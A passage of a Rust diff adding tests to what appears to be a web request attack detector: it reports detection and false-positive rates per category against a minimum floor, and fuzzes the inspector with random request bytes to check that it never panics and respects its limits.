+                *rule_counts.entry(h.rule_id.to_string()).or_default() += 1;
+            }
+        }
+    }
+    let mut tot = [0u32; 4];
+    eprintln!(
+        "{:<22} {:>8} {:>9} {:>8} {:>9}",
+        "category", "detect", "detected", "clean", "flagged"
+    );
+    for (cat, c) in &by_cat {
+        eprintln!(
+            "{cat:<22} {:>8} {:>8.1}% {:>8} {:>8.1}%",
+            c[0],
+            100.0 * f64::from(c[1]) / f64::from(c[0].max(1)),
+            c[2],
+            100.0 * f64::from(c[3]) / f64::from(c[2].max(1))
+        );
+        for i in 0..4 {
+            tot[i] += c[i];
+        }
+    }
+    let det = f64::from(tot[1]) / f64::from(tot[0].max(1));
+    eprintln!(
+        "ALL detect {} -> {:.1}%   clean {} -> flagged {:.1}%",
+        tot[0],
+        100.0 * det,
+        tot[2],
+        100.0 * f64::from(tot[3]) / f64::from(tot[2].max(1))
+    );
+    eprintln!("rules firing on clean cases: {rule_counts:?}");
+    eprintln!(
+        "{} requests, {} points, {} regex evaluations in {:?} (debug build)",
+        stats.requests,
+        stats.points,
+        stats.regex_evaluations,
+        started.elapsed()
+    );
+    assert!(
+        det >= CRS_DETECT_FLOOR,
+        "detection rate {det:.3} fell below {CRS_DETECT_FLOOR}"
+    );
+}
+
+/// Reached rate minus a margin (see the measurement printout).
+const CRS_DETECT_FLOOR: f64 = 0.45;
+
+// ---- property test ---------------------------------------------------------
+
+mod props {
+    use super::*;
+    use proptest::prelude::*;
+
+    fn bytes() -> impl Strategy<Value = Vec<u8>> {
+        prop_oneof![
+            proptest::collection::vec(any::<u8>(), 0..200),
+            proptest::collection::vec(
+                proptest::sample::select(b"%25uxX\\&;=<>'\"$.{}[]/ 0aF#+\r\n\0".to_vec()),
+                0..200
+            ),
+        ]
+    }
+
+    proptest! {
+        #![proptest_config(ProptestConfig::with_cases(256))]
+        #[test]
+        fn inspect_never_panics(
+            method in bytes(),
+            uri in bytes(),
+            hname in bytes(),
+            hval in bytes(),
+            ct in proptest::sample::select(vec![
+                "application/json", "application/x-www-form-urlencoded",
+                "multipart/form-data; boundary=a", "text/plain", "multipart/form-data",
+            ]),
+            body in bytes(),
+            anomalies in any::<u32>(),
+        ) {
+            let mut r = req("GET", "/", &[], &body);
+            r.method = method;
+            r.uri = uri;
+            r.headers = vec![
+                Header { name: hname, value: hval.clone() },
+                Header { name: b"Cookie".to_vec(), value: hval },
+                Header { name: b"Content-Type".to_vec(), value: ct.as_bytes().to_vec() },
+            ];
+            r.anomalies = Anomalies(anomalies);
+            static SMALL: OnceLock<Detector> = OnceLock::new();
+            let d = SMALL.get_or_init(|| {
+                let limits = DetectLimits { max_points: 16, max_point_bytes: 64, max_decode_depth: 2, max_hits_per_request: 8 };
+                Detector::new(&RuleSet::builtin(), limits)
+            });
+            let mut stats = DetectStats::default();
+            let mut hits = Vec::new();
+            d.inspect(&r, &mut stats, &mut hits);
+            prop_assert!(hits.len() <= 8);
+            prop_assert!(hits.iter().all(|h| h.matched.len() <= MAX_MATCHED_BYTES));
+        }
+    }
+}
